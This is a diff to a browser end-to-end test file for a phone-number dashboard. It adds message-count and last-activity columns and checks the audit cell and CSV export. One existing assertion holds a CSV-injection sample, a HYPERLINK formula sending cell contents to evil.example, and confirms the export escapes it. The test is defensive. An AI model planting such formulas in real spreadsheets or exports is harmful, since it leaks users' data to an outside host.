@@ -1,5 +1,5 @@
 import { expect, test } from './fixtures'
-import { downloadText, parseCsv, rowTexts } from './helpers'
+import { downloadText, indexNumber, NUMBERS, parseCsv, rowTexts } from './helpers'
 import { startProxy, startSimulator } from './stack'
 import { LARGE_CREDENTIALS } from '../proxy/simulator/dataset'
 
@@ -42,6 +42,15 @@ test.describe('owned numbers', () => {
     await expect(page.getByText('No numbers match')).toBeVisible()
   })
 
+  test('an indexed number shows how many messages the index holds and its last activity', async ({ page }) => {
+    const held = await indexNumber(NUMBERS.dozens)
+    expect(held).toBe(36)
+    await page.goto('/')
+    const row = page.getByRole('row', { name: /\(855\) 200-9444/ })
+    await expect(row.locator('[data-col="messages"]')).toHaveText('36')
+    await expect(row.locator('[data-col="activity"]')).toHaveText(/^\d{4}-\d{2}-\d{2}$/)
+  })
+
   test("a phone that is not one of the account's numbers offers that party's messages", async ({ page }) => {
     await page.goto('/')
     const box = page.getByRole('searchbox', { name: /Search numbers/ })
@@ -65,8 +74,9 @@ test.describe('owned numbers', () => {
         .first()
       await expect(row).toContainText(digits)
       // The audit lands a frame after the rows (deferred render): wait for it, then read.
-      await expect(row.locator('td').last()).not.toHaveText('Checking…')
-      return (await row.locator('td').last().textContent()) ?? ''
+      const cell = row.locator('[data-col="audit"]')
+      await expect(cell).not.toHaveText('Checking…')
+      return (await cell.textContent()) ?? ''
     }
     // Each finding carries its severity in words: a problem, or worth a look.
     expect(await auditOf('18323232323')).toBe('No findings')
@@ -158,7 +168,7 @@ test.describe('owned numbers', () => {
     const { name, text } = await downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
     expect(name).toMatch(/^switchboard-numbers-all-webhook-invalid-url-\d{4}-\d{2}-\d{2}\.csv$/)
     const rows = parseCsv(text)
-    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', 'Audit'])
+    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', 'Audit', 'Messages', 'Last activity (UTC)'])
     expect(rows.slice(1).map((r) => r[0])).toEqual(onScreen)
     const formula = rows.find((r) => r[3]?.includes('HYPERLINK'))
     expect(formula?.[3]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Click")')
